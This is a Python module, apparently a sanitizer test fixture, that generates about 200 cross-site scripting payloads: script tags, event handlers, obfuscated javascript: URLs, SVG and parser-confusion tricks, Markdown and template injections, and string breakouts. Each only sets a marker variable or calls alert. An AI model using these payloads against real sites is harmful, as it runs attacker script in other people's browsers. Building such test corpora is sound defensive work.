"""Texts that would run a script if a page took them for anything but words: 200 classic shapes.

Each one, where it runs, sets `window.__xss` or calls `alert`.
"""

from base64 import b64encode
from collections.abc import Iterator
from html import escape

RUN = "window.__xss=true"
QUOTED = "alert('xss')"


def payloads() -> list[str]:
    """All of them, each once, in an order that stays the same."""
    families = (
        _scripts,
        _handlers_that_fire,
        _handlers_that_wait,
        _addresses,
        _hidden_addresses,
        _vectors,
        _parser_confusion,
        _markdown,
        _twice_read,
        _broken_tags,
        _templates_and_styles,
        _out_of_a_string,
    )
    return [text for family in families for text in family()]


def _scripts() -> Iterator[str]:
    """Script elements, written every way that a browser accepts and a filter forgets."""
    encoded = b64encode(RUN.encode()).decode()
    yield f"<script>{RUN}</script>"
    yield f"<SCRIPT>{RUN}</SCRIPT>"
    yield f"<ScRiPt>{RUN}</sCrIpT>"
    yield f"<script >{RUN}</script >"
    yield f"<script/x>{RUN}</script>"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<script\t>{RUN}</script>"
    yield f"<script type='module'>{RUN}</script>"
    yield f"<script type=text/javascript>{RUN}</script>"
    yield f"<script async defer>{RUN}//</script>"
    yield f"<script src='data:text/javascript,{RUN}'></script>"
    yield f"<script src=data:text/javascript;base64,{encoded}></script>"
    yield f"<script src='data:,{QUOTED}//' integrity></script>"
    yield f"<script>eval(atob('{encoded}'))</script>"
    yield f"<script>Function('{RUN}')()</script>"
    yield "<script>window['__x'+'ss']=true</script>"
    yield "<script>window.\\u005f_xss=true</script>"
    yield "<script>top[/__xss/.source]=true</script>"
    yield f"<script><!--\n{RUN}\n//--></script>"
    yield f"<script>/*<![CDATA[*/{RUN}/*]]>*/</script>"


def _handlers_that_fire() -> Iterator[str]:
    """Attributes that run as soon as their element stands in a page."""
    at_once = {
        "img src=x": "onerror",
        "img srcset=x:": "onerror",
        "image src=x": "onerror",
        "picture><source srcset=x><img": "onerror",
        "video src=x": "onerror",
        "video><source src=x": "onerror",
        "audio src=x": "onerror",
        "object data=x:": "onerror",
        "embed src=data:text/html,x": "onload",
        "iframe": "onload",
        "iframe srcdoc=x": "onload",
        "body": "onload",
        "body tabindex=0 autofocus": "onfocus",
        "link rel=stylesheet href=data:text/css,": "onload",
        "link rel=stylesheet href=x:": "onerror",
        "style": "onload",
        "script src=x:": "onerror",
        "input type=image src=x:": "onerror",
        "input autofocus": "onfocus",
        "select autofocus": "onfocus",
        "textarea autofocus": "onfocus",
        "button autofocus": "onfocus",
        "div tabindex=0 autofocus": "onfocusin",
        "a href=# autofocus": "onfocus",
        "details open": "ontoggle",
        "marquee": "onstart",
        "svg": "onload",
        "svg><image href=x:": "onerror",
        "svg><style": "onload",
        "track src=x: default": "onerror",
    }
    for element, event in at_once.items():
        yield f'<{element} {event}="{RUN}">'


def _handlers_that_wait() -> Iterator[str]:
    """Attributes that run once a hand comes near."""
    waiting = {
        "a": "onclick",
        "b": "onmouseover",
        "p": "onpointerenter",
        "div contenteditable": "oninput",
        "form": "onsubmit",
        "td": "onmousemove",
        "h1": "onmouseenter",
        "span": "oncopy",
        "ul": "onwheel",
        "dialog open": "onclose",
        "img": "ondragstart",
        "blockquote": "onselectstart",
    }
    for element, event in waiting.items():
        yield f"<{element} {event}={RUN}>words</{element.split()[0]}>"


def _addresses() -> Iterator[str]:
    """Addresses that are scripts."""
    script = f"javascript:{RUN}"
    page = f"data:text/html,<script>parent.{RUN}</script>"
    encoded = b64encode(f"<script>top.{RUN}</script>".encode()).decode()
    yield f"<a href='{script}'>words</a>"
    yield f"<a href='{script}' target=_top>words</a>"
    yield f"<area href='{script}' shape=default>"
    yield f"<iframe src='{script}'></iframe>"
    yield f"<iframe src='{page}'></iframe>"
    yield f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
    yield f"<iframe srcdoc='{escape(f'<img src=x onerror=parent.{RUN}>')}'></iframe>"
    yield f"<frameset><frame src='{script}'></frameset>"
    yield f"<object data='{script}'></object>"
    yield f"<object data='data:text/html;base64,{encoded}'></object>"
    yield f"<embed src='{script}'>"
    yield f"<embed src='data:text/html;base64,{encoded}'>"
    yield f"<form action='{script}'><input type=submit></form>"
    yield f"<form id=f></form><button form=f formaction='{script}'>words</button>"
    yield f"<input type=submit formaction='{script}' value=words>"
    yield f"<input type=image src='{script}'>"
    yield f"<img src='{script}'>"
    yield f"<base href='{script}//'><a href='x'>words</a>"
    yield f"<meta http-equiv=refresh content='0;url={script}'>"
    yield f"<meta http-equiv='refresh' content='0; url={page}'>"
    yield f"<link rel=import href='{page}'>"
    yield f"<body background='{script}'>"
    yield f"<table background='{script}'><tr><td>words</table>"


def _hidden_addresses() -> Iterator[str]:
    """The same, so written that a search for the word finds nothing."""
    spelt = "".join(f"&#{ord(letter)};" for letter in "javascript")
    in_hex = "".join(f"&#x{ord(letter):x}" for letter in "javascript:")
    for scheme in (
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "java&Tab;script:",
        "java&NewLine;script&colon;",
        " javascript:",
        "\x01javascript:",
        "&#14;javascript:",
        f"{spelt}:",
        in_hex,
        "javascript&#58;",
        "javascript&#0000058",
        "javascript://%0a",
        "javascript:void(0);",
        "vbscript:",
    ):
        yield f'<a href="{scheme}{RUN}">words</a>'


def _vectors() -> Iterator[str]:
    """Drawings and formulas, which have rules of their own."""
    yield f"<svg><script>{RUN}</script></svg>"
    yield "<svg><script>window&#46;__xss&#61;true</script></svg>"
    yield f"<svg><script href='data:text/javascript,{RUN}'/></svg>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text y=20>words</text></a></svg>"
    yield f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>w</text></a></svg>"
    yield f"<svg><a><set attributeName=href to=javascript:{RUN} /><text y=9>words</text></a></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><animatetransform onbegin={RUN} attributeName=transform>"
    yield f"<svg><set onbegin={RUN} attributeName=x>"
    yield f"<svg><discard onbegin={RUN}>"
    yield f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x'/></svg>"
    yield f"<math href='javascript:{RUN}'>words</math>"
    yield f"<math><mi xlink:href='javascript:{RUN}' xlink:type=simple>words</mi></math>"


def _parser_confusion() -> Iterator[str]:
    """Nestings that a browser's parser turns into something else."""
    late = f"<img src=x onerror={RUN}>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='-->{late}'>"
    yield f"<math><mtext><table><mglyph><svg><mtext><style><a title='</style>{late}'>"
    yield f"<svg></p><style><a id='</style>{late}'>"
    yield f"<svg><desc><noscript><p title='</noscript>{late}'>"
    yield f"<noscript><p title='</noscript>{late}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{late}"
    yield f"<template><p title='</template>{late}'></template>"
    yield f"<select><style></select>{late}</style>"
    yield f"<xmp><p title='</xmp>{late}'>"
    yield f"<noembed><p title='</noembed>{late}'>"
    yield f"<plaintext><!--></plaintext>{late}"
    yield f"<title><a id='</title>{late}'>"


def _markdown() -> Iterator[str]:
    """Markdown that would become a link, an image or an attribute."""
    script = f"javascript:{RUN}"
    yield f"[words]({script})"
    yield f"[words](<{script}>)"
    yield f"[words](JaVaScRiPt:{RUN})"
    yield f"[words](java&#115;cript:{RUN})"
    yield f"[words](javascript&colon;{RUN})"
    yield f'[words](x "\\" onmouseover=\\"{RUN}")'
    yield f"[words][r]\n\n[r]: {script}"
    yield f"[r]\n\n[r]: <{script}> 'title'"
    yield f"![words]({script})"
    yield f'![" onerror="{RUN}](x)'
    yield f'![words](x" onerror="{RUN})'
    yield f"[![words](x)]({script})"
    yield f"<{script}>"
    yield f"<data:text/html,<script>{RUN}</script>>"
    yield f'```" onmouseover="{RUN}\ncode\n```'
    yield f"```html\n<script>{RUN}</script>\n```"
    yield f"`<img src=x onerror={RUN}>`"
    yield f"    <script>{RUN}</script>"
    yield f"# words {{onclick={RUN}}}"
    yield f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [w]({script}) |"
    yield f"- [ ] <input autofocus onfocus={RUN}>"
    yield f"**<svg onload={RUN}>**"
    yield f"> <details open ontoggle={RUN}>"
    yield f"words[^1]\n\n[^1]: <img src=x onerror={RUN}>"
    yield f"$\\href{{{script}}}{{words}}$"
    yield f":red[<img src=x onerror={RUN}>]"


def _twice_read() -> Iterator[str]:
    """Code that appears when a text is decoded once too often."""
    image = f"<img src=x onerror={RUN}>"
    yield escape(image)
    yield escape(escape(image))
    yield "".join(f"&#{ord(sign)};" for sign in image)
    yield "".join(f"&#x{ord(sign):X};" for sign in image)
    yield "".join(f"%{ord(sign):02X}" for sign in image)
    yield "".join(f"\\u{ord(sign):04x}" for sign in image)
    yield "".join(f"\\x{ord(sign):02x}" for sign in image)
    yield image.replace("<", "＜").replace(">", "＞")
    yield image.replace("<", "+ADw-").replace(">", "+AD4-")


def _broken_tags() -> Iterator[str]:
    """Tags that lack a part, or hold one too many."""
    yield f"<img src=x onerror={RUN} "
    yield f"<<script>{RUN}//<</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<scr\x0bipt>{RUN}</scr\x0bipt>"
    yield f"<img/src/onerror={RUN}>"
    yield f"<img\x0csrc=x\x0conerror={RUN}>"
    yield f'<img """><script>{RUN}</script>">'
    yield f"<img src=`x`onerror={RUN}>"
    yield f"<svg/onload={RUN}//"
    yield f"<x onclick={RUN} a='>words"
    yield f"--><script>{RUN}</script>"
    yield f"]]><script>{RUN}</script>"
    yield f"</textarea><script>{RUN}</script>"
    yield f"</title></style></script><script>{RUN}</script>"
    yield f"<!--[if true]><script>{RUN}</script><![endif]-->"
    yield f"<?xml-stylesheet href='javascript:{RUN}'?><script>{RUN}</script>"


def _templates_and_styles() -> Iterator[str]:
    """Expressions that some page kits work out, and style sheets that load or call something."""
    yield f'{{{{constructor.constructor("{RUN}")()}}}}'
    yield f"<div ng-app ng-init=\"constructor.constructor('{RUN}')()\"></div>"
    yield f'<div x-data x-init="{RUN}"></div>'
    yield f"${{{RUN}}}"
    yield f"<%= {RUN} %><script><%- {RUN} %></script>"
    yield f"#{{{RUN}}}<p v-on:vue:mounted='{RUN}'>words</p>"
    yield f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}"
    yield f"<style>*{{background:url('javascript:{RUN}')}}</style>"
    yield f"<style>@import 'data:text/css,*{{x:expression({RUN})}}';</style>"
    yield f"<p style='width:expression({RUN})'>words</p>"
    yield f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart={RUN}>words"
    yield f"<link rel=stylesheet href='javascript:{RUN}'>"
    yield f"<p style='-moz-binding:url(data:text/xml,{QUOTED})'>words</p>"
    yield f"<p style='transition:all 1ms' ontransitionend={RUN} tabindex=1>words"


def _out_of_a_string() -> Iterator[str]:
    """Endings of an attribute or string that a text was put into."""
    yield f'"><img src=x onerror={RUN}>'
    yield f"'><img src=x onerror={RUN}>"
    yield f'" autofocus onfocus="{RUN}'
    yield f"';{RUN};//"
    yield f'";{QUOTED};//'
    yield f"\\';{RUN};//"
    yield f"`-{QUOTED}-`"
    yield f"</script><script>{RUN}</script>"
    yield f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={QUOTED} )//%0D%0A//</stYle/--!>"
